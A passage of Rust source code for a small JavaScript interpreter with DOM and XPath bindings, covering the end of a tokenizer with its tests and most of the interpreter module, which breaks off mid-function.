    while i < b.len() {
        let c = b[i];
        match c {
            b' ' | b'\t' | b'\r' | b'\n' => i += 1,
            b'/' if i + 1 < b.len() && b[i + 1] == b'/' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'/' if i + 1 < b.len() && b[i + 1] == b'*' => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == b'*' && b[i + 1] == b'/') {
                    i += 1;
                }
                i = (i + 2).min(b.len());
            }
            b'(' => {
                out.push(JsTok::LParen);
                i += 1;
            }
            b')' => {
                out.push(JsTok::RParen);
                i += 1;
            }
            b'{' => {
                out.push(JsTok::LBrace);
                i += 1;
            }
            b'}' => {
                out.push(JsTok::RBrace);
                i += 1;
            }
            b'[' => {
                out.push(JsTok::LBracket);
                i += 1;
            }
            b']' => {
                out.push(JsTok::RBracket);
                i += 1;
            }
            b';' => {
                out.push(JsTok::Semi);
                i += 1;
            }
            b',' => {
                out.push(JsTok::Comma);
                i += 1;
            }
            b'.' => {
                out.push(JsTok::Dot);
                i += 1;
            }
            b'+' => {
                if b.get(i + 1) == Some(&b'=') {
                    out.push(JsTok::PlusAssign);
                    i += 2;
                } else {
                    out.push(JsTok::Plus);
                    i += 1;
                }
            }
            b'-' => {
                out.push(JsTok::Minus);
                i += 1;
            }
            b'*' => {
                out.push(JsTok::Star);
                i += 1;
            }
            b'/' => {
                out.push(JsTok::Slash);
                i += 1;
            }
            b'%' => {
                out.push(JsTok::Percent);
                i += 1;
            }
            b'=' => {
                if b.get(i + 1) == Some(&b'=') {
                    if b.get(i + 2) == Some(&b'=') {
                        out.push(JsTok::StrictEq);
                        i += 3;
                    } else {
                        out.push(JsTok::Eq);
                        i += 2;
                    }
                } else {
                    out.push(JsTok::Assign);
                    i += 1;
                }
            }
            b'!' => {
                if b.get(i + 1) == Some(&b'=') {
                    if b.get(i + 2) == Some(&b'=') {
                        out.push(JsTok::StrictNotEq);
                        i += 3;
                    } else {
                        out.push(JsTok::NotEq);
                        i += 2;
                    }
                } else {
                    out.push(JsTok::Not);
                    i += 1;
                }
            }
            b'<' => {
                if b.get(i + 1) == Some(&b'=') {
                    out.push(JsTok::LtEq);
                    i += 2;
                } else {
                    out.push(JsTok::Lt);
                    i += 1;
                }
            }
            b'>' => {
                if b.get(i + 1) == Some(&b'=') {
                    out.push(JsTok::GtEq);
                    i += 2;
                } else {
                    out.push(JsTok::Gt);
                    i += 1;
                }
            }
            b'&' => {
                if b.get(i + 1) == Some(&b'&') {
                    out.push(JsTok::AndAnd);
                    i += 2;
                } else {
                    return Err(format!("unexpected `&` at byte {i}"));
                }
            }
            b'|' => {
                if b.get(i + 1) == Some(&b'|') {
                    out.push(JsTok::OrOr);
                    i += 2;
                } else {
                    return Err(format!("unexpected `|` at byte {i}"));
                }
            }
            b'"' | b'\'' => {
                let quote = c;
                i += 1;
                let mut s = String::new();
                loop {
                    match b.get(i) {
                        None => return Err("unterminated string".to_string()),
                        Some(&q) if q == quote => {
                            i += 1;
                            break;
                        }
                        Some(b'\\') => {
                            let esc = b.get(i + 1).copied().unwrap_or(b'\\');
                            s.push(match esc {
                                b'n' => '\n',
                                b't' => '\t',
                                b'r' => '\r',
                                other => other as char,
                            });
                            i += 2;
                        }
                        Some(&ch) => {
                            // pass UTF-8 bytes through
                            let len = match ch {
                                0x00..=0x7f => 1,
                                0xc0..=0xdf => 2,
                                0xe0..=0xef => 3,
                                _ => 4,
                            };
                            s.push_str(&src[i..i + len]);
                            i += len;
                        }
                    }
                }
                out.push(JsTok::Str(s));
            }
            b'0'..=b'9' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'.') {
                    i += 1;
                }
                let text = &src[start..i];
                out.push(JsTok::Number(
                    text.parse::<f64>()
                        .map_err(|_| format!("bad number `{text}`"))?,
                ));
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c == b'$' => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] == b'$')
                {
                    i += 1;
                }
                out.push(JsTok::Ident(src[start..i].to_string()));
            }
            other => return Err(format!("unexpected character `{}`", other as char)),
        }
    }
    out.push(JsTok::Eof);
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn basic_tokens() {
        let t = tokenize("var x = 1 + 2;").unwrap();
        assert_eq!(
            t,
            vec![
                JsTok::Ident("var".into()),
                JsTok::Ident("x".into()),
                JsTok::Assign,
                JsTok::Number(1.0),
                JsTok::Plus,
                JsTok::Number(2.0),
                JsTok::Semi,
                JsTok::Eof,
            ]
        );
    }

    #[test]
    fn strings_and_escapes() {
        let t = tokenize(r#"'a\'b' "c\nd""#).unwrap();
        assert_eq!(t[0], JsTok::Str("a'b".into()));
        assert_eq!(t[1], JsTok::Str("c\nd".into()));
    }

    #[test]
    fn comments_skipped() {
        let t = tokenize("1 // line\n/* block */ 2").unwrap();
        assert_eq!(t, vec![JsTok::Number(1.0), JsTok::Number(2.0), JsTok::Eof]);
    }

    #[test]
    fn comparison_operators() {
        let t = tokenize("a == b != c === d <= e").unwrap();
        assert!(t.contains(&JsTok::Eq));
        assert!(t.contains(&JsTok::NotEq));
        assert!(t.contains(&JsTok::StrictEq));
        assert!(t.contains(&JsTok::LtEq));
    }
}
