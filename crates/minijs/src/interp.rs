//! The interpreter and its DOM bindings.

use std::cell::RefCell;
use std::collections::HashMap;
use std::fmt;
use std::rc::Rc;

use xqib_dom::{DocId, NodeRef, QName, SharedStore};
use xqib_xquery::context::{DynamicContext, StaticContext};

use crate::ast::*;
use crate::parser::parse_program;

/// Runtime error.
#[derive(Debug, Clone)]
pub struct JsError(pub String);

impl fmt::Display for JsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "JS error: {}", self.0)
    }
}
impl std::error::Error for JsError {}

fn err<T>(msg: impl Into<String>) -> Result<T, JsError> {
    Err(JsError(msg.into()))
}

/// Host singletons.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostObject {
    Document,
    Window,
    Navigator,
    Screen,
}

/// A JavaScript value.
#[derive(Clone)]
pub enum Value {
    Number(f64),
    Str(String),
    Bool(bool),
    Null,
    Undefined,
    Node(NodeRef),
    /// `document.evaluate` snapshot result (§2.2)
    Snapshot(Rc<Vec<NodeRef>>),
    Function(Rc<JsFunction>),
    Array(Rc<RefCell<Vec<Value>>>),
    Object(Rc<RefCell<HashMap<String, Value>>>),
    Host(HostObject),
}

impl fmt::Debug for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Number(n) => write!(f, "Number({n})"),
            Value::Str(s) => write!(f, "Str({s:?})"),
            Value::Bool(b) => write!(f, "Bool({b})"),
            Value::Null => write!(f, "Null"),
            Value::Undefined => write!(f, "Undefined"),
            Value::Node(n) => write!(f, "Node({n:?})"),
            Value::Snapshot(s) => write!(f, "Snapshot(len={})", s.len()),
            Value::Function(func) => write!(f, "Function({:?})", func.name),
            Value::Array(a) => write!(f, "Array(len={})", a.borrow().len()),
            Value::Object(_) => write!(f, "Object"),
            Value::Host(h) => write!(f, "Host({h:?})"),
        }
    }
}

impl Value {
    pub fn truthy(&self) -> bool {
        match self {
            Value::Number(n) => *n != 0.0 && !n.is_nan(),
            Value::Str(s) => !s.is_empty(),
            Value::Bool(b) => *b,
            Value::Null | Value::Undefined => false,
            _ => true,
        }
    }

    /// JS-style string coercion (`"" + v`).
    pub fn to_js_string(&self) -> String {
        match self {
            Value::Number(n) => format_number(*n),
            Value::Str(s) => s.clone(),
            Value::Bool(b) => b.to_string(),
            Value::Null => "null".to_string(),
            Value::Undefined => "undefined".to_string(),
            Value::Node(_) => "[object Node]".to_string(),
            Value::Snapshot(_) => "[object XPathResult]".to_string(),
            Value::Function(_) => "function".to_string(),
            Value::Array(a) => a
                .borrow()
                .iter()
                .map(|v| v.to_js_string())
                .collect::<Vec<_>>()
                .join(","),
            Value::Object(_) => "[object Object]".to_string(),
            Value::Host(_) => "[object Host]".to_string(),
        }
    }

    pub fn to_number(&self) -> f64 {
        match self {
            Value::Number(n) => *n,
            Value::Str(s) => s.trim().parse().unwrap_or(f64::NAN),
            Value::Bool(true) => 1.0,
            Value::Bool(false) | Value::Null => 0.0,
            _ => f64::NAN,
        }
    }
}

fn format_number(n: f64) -> String {
    if n == n.trunc() && n.abs() < 1e15 && !n.is_nan() && !n.is_infinite() {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

enum Flow {
    Normal,
    Return(Value),
}

/// The engine: shared DOM store + one document + globals.
pub struct JsEngine {
    pub store: SharedStore,
    pub doc: DocId,
    globals: HashMap<String, Value>,
    /// alert log (like the XQIB browser's)
    pub alerts: Vec<String>,
    /// listener registrations made via `addEventListener`, for the host to
    /// bind onto the shared event system
    pending_registrations: Vec<(NodeRef, String, Value)>,
    pending_removals: Vec<(NodeRef, String, Value)>,
    /// window.status mirror (set via `self.status = …`)
    pub window_status: String,
    /// navigator/screen data (copies of the BOM's)
    pub navigator_app_name: String,
    pub screen_height: f64,
    pub screen_width: f64,
    /// executed-statement counter (perf experiments)
    pub ops: u64,
    /// compiled XPath cache for document.evaluate
    xpath_cache: HashMap<String, Rc<xqib_xquery::ast::Expr>>,
}

impl JsEngine {
    pub fn new(store: SharedStore, doc: DocId) -> Self {
        JsEngine {
            store,
            doc,
            globals: HashMap::new(),
            alerts: Vec::new(),
            pending_registrations: Vec::new(),
            pending_removals: Vec::new(),
            window_status: String::new(),
            navigator_app_name: "Microsoft Internet Explorer".to_string(),
            screen_height: 1024.0,
            screen_width: 1280.0,
            ops: 0,
            xpath_cache: HashMap::new(),
        }
    }

    /// Runs a program in the global scope.
    pub fn run(&mut self, src: &str) -> Result<(), JsError> {
        let program = parse_program(src).map_err(JsError)?;
        // top-level runs with an empty scope stack: `var` goes straight to
        // the globals, immediately visible to called functions (JS
        // script-scope semantics)
        let mut scopes: Vec<HashMap<String, Value>> = Vec::new();
        // hoist function declarations
        for stmt in &program.stmts {
            if let JsStmt::FunctionDecl(name, f) = stmt {
                self.globals
                    .insert(name.clone(), Value::Function(f.clone()));
            }
        }
        for stmt in &program.stmts {
            match self.exec_stmt(stmt, &mut scopes)? {
                Flow::Normal => {}
                Flow::Return(_) => break,
            }
        }
        Ok(())
    }

    /// Calls a function value with arguments (listener dispatch).
    pub fn call_value(&mut self, f: &Value, args: Vec<Value>) -> Result<Value, JsError> {
        match f {
            Value::Function(func) => self.call_function(func, args),
            _ => err("not a function"),
        }
    }

    /// Builds a DOM event object and invokes the listener.
    pub fn dispatch_to(
        &mut self,
        listener: &Value,
        event_type: &str,
        target: NodeRef,
        button: u8,
    ) -> Result<Value, JsError> {
        let mut props = HashMap::new();
        props.insert("target".to_string(), Value::Node(target));
        props.insert("type".to_string(), Value::Str(event_type.to_string()));
        props.insert("button".to_string(), Value::Number(button as f64));
        let event = Value::Object(Rc::new(RefCell::new(props)));
        self.call_value(listener, vec![event])
    }

    /// Listener registrations accumulated since the last call.
    pub fn take_registrations(&mut self) -> Vec<(NodeRef, String, Value)> {
        std::mem::take(&mut self.pending_registrations)
    }

    pub fn take_removals(&mut self) -> Vec<(NodeRef, String, Value)> {
        std::mem::take(&mut self.pending_removals)
    }

    pub fn global(&self, name: &str) -> Option<&Value> {
        self.globals.get(name)
    }

    fn call_function(&mut self, func: &Rc<JsFunction>, args: Vec<Value>) -> Result<Value, JsError> {
        let mut scopes = vec![HashMap::new()];
        for (i, p) in func.params.iter().enumerate() {
            scopes[0].insert(p.clone(), args.get(i).cloned().unwrap_or(Value::Undefined));
        }
        for stmt in &func.body {
            if let JsStmt::FunctionDecl(name, f) = stmt {
                scopes[0].insert(name.clone(), Value::Function(f.clone()));
            }
        }
        for stmt in &func.body {
            match self.exec_stmt(stmt, &mut scopes)? {
                Flow::Normal => {}
                Flow::Return(v) => return Ok(v),
            }
        }
        Ok(Value::Undefined)
    }

    fn exec_stmts(
        &mut self,
        stmts: &[JsStmt],
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<Flow, JsError> {
        for stmt in stmts {
            match self.exec_stmt(stmt, scopes)? {
                Flow::Normal => {}
                r @ Flow::Return(_) => return Ok(r),
            }
        }
        Ok(Flow::Normal)
    }

    fn exec_stmt(
        &mut self,
        stmt: &JsStmt,
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<Flow, JsError> {
        self.ops += 1;
        match stmt {
            JsStmt::VarDecl(name, init) => {
                let v = match init {
                    Some(e) => self.eval(e, scopes)?,
                    None => Value::Undefined,
                };
                match scopes.last_mut() {
                    Some(scope) => {
                        scope.insert(name.clone(), v);
                    }
                    None => {
                        self.globals.insert(name.clone(), v);
                    }
                }
                Ok(Flow::Normal)
            }
            JsStmt::Expr(e) => {
                self.eval(e, scopes)?;
                Ok(Flow::Normal)
            }
            JsStmt::If(cond, then, els) => {
                if self.eval(cond, scopes)?.truthy() {
                    self.exec_stmts(then, scopes)
                } else {
                    self.exec_stmts(els, scopes)
                }
            }
            JsStmt::While(cond, body) => {
                let mut guard = 0u64;
                while self.eval(cond, scopes)?.truthy() {
                    if let r @ Flow::Return(_) = self.exec_stmts(body, scopes)? {
                        return Ok(r);
                    }
                    guard += 1;
                    if guard > 50_000_000 {
                        return err("while loop guard exceeded");
                    }
                }
                Ok(Flow::Normal)
            }
            JsStmt::For(init, cond, step, body) => {
                if let Some(i) = init {
                    self.exec_stmt(i, scopes)?;
                }
                let mut guard = 0u64;
                loop {
                    if let Some(c) = cond {
                        if !self.eval(c, scopes)?.truthy() {
                            break;
                        }
                    }
                    if let r @ Flow::Return(_) = self.exec_stmts(body, scopes)? {
                        return Ok(r);
                    }
                    if let Some(s) = step {
                        self.eval(s, scopes)?;
                    }
                    guard += 1;
                    if guard > 50_000_000 {
                        return err("for loop guard exceeded");
                    }
                }
                Ok(Flow::Normal)
            }
            JsStmt::Return(value) => {
                let v = match value {
                    Some(e) => self.eval(e, scopes)?,
                    None => Value::Undefined,
                };
                Ok(Flow::Return(v))
            }
            JsStmt::FunctionDecl(..) => Ok(Flow::Normal), // hoisted
        }
    }

    fn lookup(&self, name: &str, scopes: &[HashMap<String, Value>]) -> Option<Value> {
        for scope in scopes.iter().rev() {
            if let Some(v) = scope.get(name) {
                return Some(v.clone());
            }
        }
        self.globals.get(name).cloned()
    }

    fn assign_ident(&mut self, name: &str, value: Value, scopes: &mut [HashMap<String, Value>]) {
        for scope in scopes.iter_mut().rev() {
            if scope.contains_key(name) {
                scope.insert(name.to_string(), value);
                return;
            }
        }
        // implicit global, like sloppy-mode JS
        self.globals.insert(name.to_string(), value);
    }

    fn eval(
        &mut self,
        e: &JsExpr,
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<Value, JsError> {
        self.ops += 1;
        match e {
            JsExpr::Number(n) => Ok(Value::Number(*n)),
            JsExpr::Str(s) => Ok(Value::Str(s.clone())),
            JsExpr::Bool(b) => Ok(Value::Bool(*b)),
            JsExpr::Null => Ok(Value::Null),
            JsExpr::Undefined => Ok(Value::Undefined),
            JsExpr::Array(items) => {
                let mut v = Vec::with_capacity(items.len());
                for i in items {
                    v.push(self.eval(i, scopes)?);
                }
                Ok(Value::Array(Rc::new(RefCell::new(v))))
            }
            JsExpr::Ident(name) => match name.as_str() {
                "document" => Ok(Value::Host(HostObject::Document)),
                "window" | "self" | "top" => Ok(Value::Host(HostObject::Window)),
                "navigator" => Ok(Value::Host(HostObject::Navigator)),
                "screen" => Ok(Value::Host(HostObject::Screen)),
                _ => self
                    .lookup(name, scopes)
                    .ok_or_else(|| JsError(format!("`{name}` is not defined"))),
            },
            JsExpr::FunctionLit(f) => Ok(Value::Function(f.clone())),
            JsExpr::Not(inner) => Ok(Value::Bool(!self.eval(inner, scopes)?.truthy())),
            JsExpr::Neg(inner) => Ok(Value::Number(-self.eval(inner, scopes)?.to_number())),
            JsExpr::Binary(op, l, r) => self.eval_binary(*op, l, r, scopes),
            JsExpr::Member(obj, name) => {
                let o = self.eval(obj, scopes)?;
                self.get_member(&o, name)
            }
            JsExpr::Index(obj, idx) => {
                let o = self.eval(obj, scopes)?;
                let i = self.eval(idx, scopes)?;
                match (&o, &i) {
                    (Value::Array(a), Value::Number(n)) => Ok(a
                        .borrow()
                        .get(*n as usize)
                        .cloned()
                        .unwrap_or(Value::Undefined)),
                    (Value::Object(m), _) => Ok(m
                        .borrow()
                        .get(&i.to_js_string())
                        .cloned()
                        .unwrap_or(Value::Undefined)),
                    _ => err("cannot index this value"),
                }
            }
            JsExpr::Call(callee, args) => self.eval_call(callee, args, scopes),
            JsExpr::Assign(target, value) => {
                let v = self.eval(value, scopes)?;
                self.assign(target, v.clone(), scopes)?;
                Ok(v)
            }
            JsExpr::AddAssign(target, value) => {
                let old = self.eval(target, scopes)?;
                let add = self.eval(value, scopes)?;
                let v = js_add(&old, &add);
                self.assign(target, v.clone(), scopes)?;
                Ok(v)
            }
        }
    }

    fn assign(
        &mut self,
        target: &JsExpr,
        value: Value,
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<(), JsError> {
        match target {
            JsExpr::Ident(name) => {
                self.assign_ident(name, value, scopes);
                Ok(())
            }
            JsExpr::Member(obj, name) => {
                let o = self.eval(obj, scopes)?;
                self.set_member(&o, name, value)
            }
            JsExpr::Index(obj, idx) => {
                let o = self.eval(obj, scopes)?;
                let i = self.eval(idx, scopes)?;
                match (&o, &i) {
                    (Value::Array(a), Value::Number(n)) => {
                        let mut a = a.borrow_mut();
                        let idx = *n as usize;
                        if idx >= a.len() {
                            a.resize(idx + 1, Value::Undefined);
                        }
                        a[idx] = value;
                        Ok(())
                    }
                    (Value::Object(m), _) => {
                        m.borrow_mut().insert(i.to_js_string(), value);
                        Ok(())
                    }
                    _ => err("cannot index-assign this value"),
                }
            }
            _ => err("invalid assignment target"),
        }
    }

    fn eval_binary(
        &mut self,
        op: BinOp,
        l: &JsExpr,
        r: &JsExpr,
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<Value, JsError> {
        // short-circuit
        if op == BinOp::And {
            let lv = self.eval(l, scopes)?;
            return if lv.truthy() {
                self.eval(r, scopes)
            } else {
                Ok(lv)
            };
        }
        if op == BinOp::Or {
            let lv = self.eval(l, scopes)?;
            return if lv.truthy() {
                Ok(lv)
            } else {
                self.eval(r, scopes)
            };
        }
        let lv = self.eval(l, scopes)?;
        let rv = self.eval(r, scopes)?;
        Ok(match op {
            BinOp::Add => js_add(&lv, &rv),
            BinOp::Sub => Value::Number(lv.to_number() - rv.to_number()),
            BinOp::Mul => Value::Number(lv.to_number() * rv.to_number()),
            BinOp::Div => Value::Number(lv.to_number() / rv.to_number()),
            BinOp::Mod => Value::Number(lv.to_number() % rv.to_number()),
            BinOp::Eq => Value::Bool(js_eq(&lv, &rv)),
            BinOp::NotEq => Value::Bool(!js_eq(&lv, &rv)),
            BinOp::Lt => js_cmp(&lv, &rv, |o| o == std::cmp::Ordering::Less),
            BinOp::LtEq => js_cmp(&lv, &rv, |o| o != std::cmp::Ordering::Greater),
            BinOp::Gt => js_cmp(&lv, &rv, |o| o == std::cmp::Ordering::Greater),
            BinOp::GtEq => js_cmp(&lv, &rv, |o| o != std::cmp::Ordering::Less),
            BinOp::And | BinOp::Or => unreachable!("handled above"),
        })
    }

    // ----- member access ------------------------------------------------------

    fn get_member(&mut self, obj: &Value, name: &str) -> Result<Value, JsError> {
        match obj {
            Value::Host(HostObject::Document) => match name {
                "body" => Ok(self
                    .find_first_named("body")
                    .map(Value::Node)
                    .unwrap_or(Value::Null)),
                "documentElement" => {
                    let store = self.store.borrow();
                    let doc = store.doc(self.doc);
                    Ok(doc
                        .children(doc.root())
                        .first()
                        .map(|&n| Value::Node(NodeRef::new(self.doc, n)))
                        .unwrap_or(Value::Null))
                }
                _ => Ok(Value::Undefined),
            },
            Value::Host(HostObject::Window) => match name {
                "status" => Ok(Value::Str(self.window_status.clone())),
                _ => Ok(Value::Undefined),
            },
            Value::Host(HostObject::Navigator) => match name {
                "appName" => Ok(Value::Str(self.navigator_app_name.clone())),
                _ => Ok(Value::Undefined),
            },
            Value::Host(HostObject::Screen) => match name {
                "height" => Ok(Value::Number(self.screen_height)),
                "width" => Ok(Value::Number(self.screen_width)),
                _ => Ok(Value::Undefined),
            },
            Value::Node(n) => match name {
                "firstChild" => {
                    let store = self.store.borrow();
                    Ok(store
                        .doc(n.doc)
                        .children(n.node)
                        .first()
                        .map(|&c| Value::Node(NodeRef::new(n.doc, c)))
                        .unwrap_or(Value::Null))
                }
                "parentNode" => {
                    let store = self.store.borrow();
                    Ok(store
                        .doc(n.doc)
                        .parent(n.node)
                        .map(|p| Value::Node(NodeRef::new(n.doc, p)))
                        .unwrap_or(Value::Null))
                }
                "textContent" => {
                    let store = self.store.borrow();
                    Ok(Value::Str(store.string_value(*n)))
                }
                "tagName" | "nodeName" => {
                    let store = self.store.borrow();
                    Ok(store
                        .doc(n.doc)
                        .node_name(n.node)
                        .map(|q| Value::Str(q.lexical()))
                        .unwrap_or(Value::Null))
                }
                _ => Ok(Value::Undefined),
            },
            Value::Snapshot(s) => match name {
                "snapshotLength" => Ok(Value::Number(s.len() as f64)),
                _ => Ok(Value::Undefined),
            },
            Value::Array(a) => match name {
                "length" => Ok(Value::Number(a.borrow().len() as f64)),
                _ => Ok(Value::Undefined),
            },
            Value::Str(s) => match name {
                "length" => Ok(Value::Number(s.chars().count() as f64)),
                _ => Ok(Value::Undefined),
            },
            Value::Object(m) => Ok(m.borrow().get(name).cloned().unwrap_or(Value::Undefined)),
            _ => Ok(Value::Undefined),
        }
    }

    fn set_member(&mut self, obj: &Value, name: &str, value: Value) -> Result<(), JsError> {
        match obj {
            Value::Host(HostObject::Window) => {
                if name == "status" {
                    self.window_status = value.to_js_string();
                }
                Ok(())
            }
            Value::Object(m) => {
                m.borrow_mut().insert(name.to_string(), value);
                Ok(())
            }
            Value::Node(n) => {
                if name == "textContent" {
                    let mut store = self.store.borrow_mut();
                    store
                        .doc_mut(n.doc)
                        .replace_element_value(n.node, &value.to_js_string())
                        .map_err(|e| JsError(e.to_string()))?;
                }
                Ok(())
            }
            _ => err(format!("cannot set `{name}` on this value")),
        }
    }

    // ----- calls -----------------------------------------------------------------

    fn eval_call(
        &mut self,
        callee: &JsExpr,
        args: &[JsExpr],
        scopes: &mut Vec<HashMap<String, Value>>,
    ) -> Result<Value, JsError> {
        let mut argv = Vec::with_capacity(args.len());
        for a in args {
            argv.push(self.eval(a, scopes)?);
        }
        match callee {
            JsExpr::Ident(name) => match name.as_str() {
                "alert" => {
                    let msg = argv.first().map(|v| v.to_js_string()).unwrap_or_default();
                    self.alerts.push(msg);
                    Ok(Value::Undefined)
                }
                "parseInt" => Ok(Value::Number(
                    argv.first()
                        .map(|v| v.to_js_string().trim().parse().unwrap_or(f64::NAN))
                        .unwrap_or(f64::NAN)
                        .trunc(),
                )),
                "String" => Ok(Value::Str(
                    argv.first().map(|v| v.to_js_string()).unwrap_or_default(),
                )),
                "Number" => Ok(Value::Number(
                    argv.first().map(|v| v.to_number()).unwrap_or(f64::NAN),
                )),
                _ => {
                    let f = self
                        .lookup(name, scopes)
                        .ok_or_else(|| JsError(format!("`{name}` is not defined")))?;
                    self.call_value(&f, argv)
                }
            },
            JsExpr::Member(obj, method) => {
                let o = self.eval(obj, scopes)?;
                self.call_method(&o, method, argv)
            }
            other => {
                let f = self.eval(other, scopes)?;
                self.call_value(&f, argv)
            }
        }
    }

    fn call_method(
        &mut self,
        obj: &Value,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Value, JsError> {
        match obj {
            Value::Host(HostObject::Document) => self.document_method(method, args),
            Value::Host(HostObject::Window) => match method {
                "alert" => {
                    self.alerts
                        .push(args.first().map(|v| v.to_js_string()).unwrap_or_default());
                    Ok(Value::Undefined)
                }
                _ => err(format!("window.{method} is not supported")),
            },
            Value::Node(n) => self.node_method(*n, method, args),
            Value::Snapshot(s) => match method {
                "snapshotItem" => {
                    let i = args.first().map(|v| v.to_number()).unwrap_or(f64::NAN);
                    Ok(s.get(i as usize)
                        .map(|&n| Value::Node(n))
                        .unwrap_or(Value::Null))
                }
                _ => err(format!("XPathResult.{method} is not supported")),
            },
            Value::Array(a) => match method {
                "push" => {
                    let mut arr = a.borrow_mut();
                    for v in args {
                        arr.push(v);
                    }
                    Ok(Value::Number(arr.len() as f64))
                }
                _ => err(format!("Array.{method} is not supported")),
            },
            Value::Str(s) => match method {
                "indexOf" => {
                    let needle = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                    Ok(Value::Number(match s.find(&needle) {
                        Some(i) => s[..i].chars().count() as f64,
                        None => -1.0,
                    }))
                }
                "substring" => {
                    let chars: Vec<char> = s.chars().collect();
                    let a = args.first().map(|v| v.to_number()).unwrap_or(0.0) as usize;
                    let b = args
                        .get(1)
                        .map(|v| v.to_number() as usize)
                        .unwrap_or(chars.len());
                    Ok(Value::Str(
                        chars[a.min(chars.len())..b.min(chars.len())]
                            .iter()
                            .collect(),
                    ))
                }
                "toUpperCase" => Ok(Value::Str(s.to_uppercase())),
                "toLowerCase" => Ok(Value::Str(s.to_lowercase())),
                _ => err(format!("String.{method} is not supported")),
            },
            Value::Object(m) => {
                let f = m.borrow().get(method).cloned();
                match f {
                    Some(f) => self.call_value(&f, args),
                    None => err(format!("object has no method `{method}`")),
                }
            }
            _ => err(format!("cannot call `{method}` on this value")),
        }
    }

    fn document_method(&mut self, method: &str, args: Vec<Value>) -> Result<Value, JsError> {
        match method {
            "createElement" => {
                let tag = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let mut store = self.store.borrow_mut();
                let e = store.doc_mut(self.doc).create_element(QName::local(&tag));
                Ok(Value::Node(NodeRef::new(self.doc, e)))
            }
            "createTextNode" => {
                let text = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let mut store = self.store.borrow_mut();
                let t = store.doc_mut(self.doc).create_text(text);
                Ok(Value::Node(NodeRef::new(self.doc, t)))
            }
            "getElementById" => {
                let id = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let store = self.store.borrow();
                let doc = store.doc(self.doc);
                Ok(doc
                    .descendants_or_self(doc.root())
                    .into_iter()
                    .find(|&n| doc.get_attribute(n, None, "id") == Some(id.as_str()))
                    .map(|n| Value::Node(NodeRef::new(self.doc, n)))
                    .unwrap_or(Value::Null))
            }
            // document.evaluate(xpath, context, resolver, resultType, result)
            "evaluate" => {
                let xpath = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let nodes = self.evaluate_xpath(&xpath)?;
                Ok(Value::Snapshot(Rc::new(nodes)))
            }
            _ => err(format!("document.{method} is not supported")),
        }
    }

    /// §2.2: embedded XPath — "all XPath expressions can be executed by an
    /// XQuery processor", so we hand the string to the XQuery engine.
    fn evaluate_xpath(&mut self, xpath: &str) -> Result<Vec<NodeRef>, JsError> {
        let expr = match self.xpath_cache.get(xpath) {
            Some(e) => e.clone(),
            None => {
                let e = Rc::new(
                    xqib_xquery::parser::parse_expr_str(xpath)
                        .map_err(|e| JsError(e.to_string()))?,
                );
                self.xpath_cache.insert(xpath.to_string(), e.clone());
                e
            }
        };
        let sctx = Rc::new(StaticContext::default());
        let mut ctx = DynamicContext::new(self.store.clone(), sctx);
        let root = self.store.borrow().root(self.doc);
        ctx.focus = Some(xqib_xquery::context::Focus {
            item: xqib_xdm::Item::Node(root),
            position: 1,
            size: 1,
        });
        let result =
            xqib_xquery::eval::eval_expr(&mut ctx, &expr).map_err(|e| JsError(e.to_string()))?;
        Ok(result.into_iter().filter_map(|i| i.as_node()).collect())
    }

    fn node_method(
        &mut self,
        n: NodeRef,
        method: &str,
        args: Vec<Value>,
    ) -> Result<Value, JsError> {
        match method {
            "appendChild" => {
                let child = node_arg(&args, 0)?;
                let mut store = self.store.borrow_mut();
                store
                    .doc_mut(n.doc)
                    .append_child(n.node, child.node)
                    .map_err(|e| JsError(e.to_string()))?;
                Ok(Value::Node(child))
            }
            "insertBefore" => {
                let new = node_arg(&args, 0)?;
                let mut store = self.store.borrow_mut();
                match args.get(1) {
                    Some(Value::Node(anchor)) => {
                        store
                            .doc_mut(n.doc)
                            .insert_before(new.node, anchor.node)
                            .map_err(|e| JsError(e.to_string()))?;
                    }
                    _ => {
                        // null anchor appends, per the DOM spec
                        store
                            .doc_mut(n.doc)
                            .append_child(n.node, new.node)
                            .map_err(|e| JsError(e.to_string()))?;
                    }
                }
                Ok(Value::Node(new))
            }
            "removeChild" => {
                let child = node_arg(&args, 0)?;
                let mut store = self.store.borrow_mut();
                store
                    .doc_mut(n.doc)
                    .detach(child.node)
                    .map_err(|e| JsError(e.to_string()))?;
                Ok(Value::Node(child))
            }
            "setAttribute" => {
                let name = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let value = args.get(1).map(|v| v.to_js_string()).unwrap_or_default();
                let mut store = self.store.borrow_mut();
                store
                    .doc_mut(n.doc)
                    .set_attribute(n.node, QName::local(&name), value)
                    .map_err(|e| JsError(e.to_string()))?;
                Ok(Value::Undefined)
            }
            "getAttribute" => {
                let name = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let store = self.store.borrow();
                Ok(store
                    .doc(n.doc)
                    .get_attribute(n.node, None, &name)
                    .map(|v| Value::Str(v.to_string()))
                    .unwrap_or(Value::Null))
            }
            "addEventListener" => {
                let event_type = args.first().map(|v| v.to_js_string()).unwrap_or_default();
                let f = args.get(1).cloned().unwrap_or(Value::Undefined);
                if !matches!(f, Value::Function(_)) {
                    return err("addEventListener requires a function");
                }
                self.pending_registrations.push((n, event_type, f));
                Ok(Value::Undefined)
            }
            "removeEventListener" => {
